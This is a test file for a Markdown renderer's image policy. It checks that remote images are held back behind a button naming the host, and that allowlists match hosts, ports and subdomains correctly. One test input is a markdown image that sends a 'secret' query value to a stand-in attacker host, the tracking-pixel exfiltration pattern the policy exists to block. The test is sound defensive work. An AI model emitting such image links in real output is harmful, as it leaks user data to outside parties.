import { describe, expect, it } from 'vitest';
import { createImagePolicy, imageHost, parseHostList } from './image-policy.js';
import { StreamingMarkdown } from './streaming-markdown.js';

const html = (markdown: string, policy = createImagePolicy()) =>
  new StreamingMarkdown({ imagePolicy: policy }).update(markdown, { done: true }).map((b) => b.html).join('');

describe('image policy', () => {
  it('holds back remote images by default, as a button naming the host; relative and data: images load', () => {
    const out = html('![pixel](http://evil.example:8080/pixel.png?secret=abc) ![x](//evil.example/p.png) ![r](/a.png) ![d](data:image/png;base64,iVBORw0KGgo=)');
    expect(out).not.toMatch(/<img[^>]+evil\.example/);
    expect(out).toContain('data-load-image="http://evil.example:8080/pixel.png?secret=abc"');
    expect(out).toContain('>Load image from evil.example:8080</button>');
    expect(out).toContain('data-load-image="//evil.example/p.png"');
    expect(out).toContain('<img src="/a.png" alt="r">');
    expect(out).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="d">');
  });

  it('loads images from allowed hosts: exact names, a port, subdomains, or every host with *', () => {
    const policy = createImagePolicy({ allowedHosts: ['cdn.example.com', 'img.example.org:8443', '*.pics.example'] });
    expect(policy.allows('https://cdn.example.com/a.png')).toBe(true);
    expect(policy.allows('https://CDN.example.com:444/a.png')).toBe(true);
    expect(policy.allows('https://cdn.example.com.evil.example/a.png')).toBe(false);
    expect(policy.allows('https://img.example.org:8443/a.png')).toBe(true);
    expect(policy.allows('https://img.example.org/a.png')).toBe(false);
    expect(policy.allows('https://a.b.pics.example/a.png')).toBe(true);
    expect(policy.allows('https://pics.example/a.png')).toBe(false);
    expect(policy.allows('https://evilpics.example/a.png')).toBe(false);
    expect(createImagePolicy({ allowedHosts: ['*'] }).allows('http://anything.example/x.png')).toBe(true);
    expect(html('![a](https://cdn.example.com/a.png)', policy)).toBe('<p><img src="https://cdn.example.com/a.png" alt="a"></p>\n');
  });

  it('loads images from the given origins and URLs the user chose; a custom label', () => {
    const chosen = new Set(['https://evil.example/ok.png']);
    const policy = createImagePolicy({ origins: ['https://chat.example'], allowedUrls: chosen, label: (host) => `Bild von ${host}` });
    expect(policy.allows('https://chat.example/files/a.png')).toBe(true);
    expect(policy.allows('https://chat.example:8443/a.png')).toBe(false);
    expect(policy.allows('https://evil.example/ok.png')).toBe(true);
    expect(policy.allows('https://evil.example/other.png')).toBe(false);
    expect(html('![a](https://evil.example/other.png)', policy)).toContain('>Bild von evil.example</button>');
  });

  it('parses host lists from attributes and finds hosts for labels', () => {
    expect(parseHostList(' cdn.example.com, *.example.org  img.example:8443 ')).toEqual(['cdn.example.com', '*.example.org', 'img.example:8443']);
    expect(parseHostList(null)).toEqual([]);
    expect(imageHost('https://a.example:8080/x')).toBe('a.example:8080');
    expect(imageHost('//b.example/x')).toBe('b.example');
  });
});
